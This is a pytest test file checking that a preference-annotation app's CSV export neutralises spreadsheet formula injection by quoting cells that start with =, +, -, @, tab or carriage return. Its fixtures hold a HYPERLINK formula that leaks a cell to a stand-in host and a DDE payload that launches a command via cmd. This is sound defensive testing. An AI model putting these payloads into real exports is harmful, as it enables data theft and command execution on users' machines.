"""CSV exports defuse cells a spreadsheet would run as a formula (OWASP "CSV Injection"): text that
starts with = + - @, a tab or a carriage return gets a leading single quote."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from preference_app.api.formats import csv_cell
from tests.api.conftest import judge, make_comparison

HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A1, "Click")'


@pytest.fixture
def hostile_pair(annotator):
    """A judged comparison whose prompt, replies and rationale each start like a formula."""
    comparison = make_comparison(context=(("system", HYPERLINK), ("user", "@SUM(1+1)*cmd|' /C calc'!A0")),
                                 texts=("+1+1", "-2+3"))
    judge(comparison, annotator, "a", 3, rationale="\tTabbed =1+1")
    return comparison


def exported_rows(researcher, dataset: str) -> list[dict]:
    client = APIClient()
    client.force_authenticate(researcher)
    response = client.get("/api/export/", {"dataset": dataset, "file_format": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_prompt_starting_with_a_formula_is_quoted_in_the_csv_export(researcher, hostile_pair):
    (row,) = exported_rows(researcher, "trl_standard")
    # The system message opens the transcript, so the prompt cell starts with it.
    assert row["prompt"].startswith("'" + HYPERLINK)


def test_every_text_cell_of_the_raw_export_that_looks_like_a_formula_is_quoted(researcher, hostile_pair):
    (row,) = exported_rows(researcher, "raw")
    assert (row["candidate_a"], row["candidate_b"], row["rationale"]) == ("'+1+1", "'-2+3", "'\tTabbed =1+1")
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Hi =1", "Hi =1"), (-1.5, -1.5), (3, 3), (None, ""), (["=x"], '["=x"]'),
])
def test_only_text_that_starts_like_a_formula_is_changed(value, cell):
    assert csv_cell(value) == cell
